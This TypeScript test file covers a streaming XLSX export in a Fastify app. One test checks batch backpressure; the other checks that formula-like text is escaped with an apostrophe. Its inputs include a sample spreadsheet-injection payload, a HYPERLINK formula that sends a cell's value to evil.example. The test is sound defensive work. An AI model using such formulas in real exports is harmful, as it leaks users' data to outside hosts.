import Fastify from 'fastify';
import { sendXlsxStream, type SheetColumn } from './xlsx-stream';

const columns: SheetColumn[] = Array.from({ length: 12 }, (_, index) => ({
  header: `Coluna ${index + 1}`,
  width: 12,
}));

describe('sendXlsxStream', () => {
  it('asks for the next batch only once the compressor and the client have caught up', async () => {
    const app = Fastify();
    let received = 0;
    /** What the client had received when each batch was asked for. */
    const receivedAtBatch: number[] = [];
    async function* batches() {
      for (let batch = 0; batch < 20; batch += 1) {
        receivedAtBatch.push(received);
        yield Array.from({ length: 2000 }, (_, row) =>
          columns.map((_, column) => `Demanda ${batch}-${row}-${column} revisão de contrato`),
        );
      }
    }
    app.get('/planilha', (_request, reply) =>
      sendXlsxStream(
        reply,
        { filename: 'planilha.xlsx', sheetName: 'Planilha', columns },
        batches(),
      ),
    );
    const address = await app.listen({ port: 0, host: '127.0.0.1' });
    try {
      const response = await fetch(`${address}/planilha`);
      expect(response.status).toBe(200);
      for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) {
        received += chunk.length;
      }
      // Written as fast as rows came, the sheet piled up uncompressed and the client had received
      // nothing when the last batch was asked for: the whole file came at the end.
      expect(receivedAtBatch).toHaveLength(20);
      expect(receivedAtBatch.at(-1)!).toBeGreaterThan(0.7 * received);
    } finally {
      await app.close();
    }
  }, 30_000);
});

describe('every export writes text that looks like a formula as text (security L5)', () => {
  it("prefixes '=', '+', '-', '@', tab and carriage return with an apostrophe, nothing else", async () => {
    const app = Fastify();
    const typed = [
      '=HYPERLINK("http://evil.example/?"&A1,"clique")',
      '+1+1 orçamento',
      '-2 horas',
      '@SUM(1,1) contrato',
      '\tcom tabulação',
      '\rcom retorno',
      'Revisão de contrato',
    ];
    app.get('/planilha', (_request, reply) =>
      sendXlsxStream(
        reply,
        {
          filename: 'planilha.xlsx',
          sheetName: 'Planilha',
          columns: [
            { header: 'Texto', width: 40 },
            { header: 'Número', width: 10 },
          ],
        },
        [typed.map((text) => [text, -5])],
      ),
    );
    try {
      const response = await app.inject({ method: 'GET', url: '/planilha' });
      const ExcelJS = (await import('exceljs')).default;
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const cells: unknown[][] = [];
      workbook.getWorksheet('Planilha')!.eachRow((row, number) => {
        if (number > 1) cells.push([row.getCell(1).value, row.getCell(2).value]);
      });
      // Each guarded cell starts with the apostrophe (a carriage return comes back from the
      // sheet's XML as a line feed); ordinary text and numbers are as they were.
      expect(cells.map(([text]) => String(text).charAt(0))).toEqual([
        "'",
        "'",
        "'",
        "'",
        "'",
        "'",
        'R',
      ]);
      expect(cells[0]).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"clique")`, -5]);
      expect(cells[3]).toEqual(["'@SUM(1,1) contrato", -5]);
      expect(cells[6]).toEqual(['Revisão de contrato', -5]);
    } finally {
      await app.close();
    }
  });
});
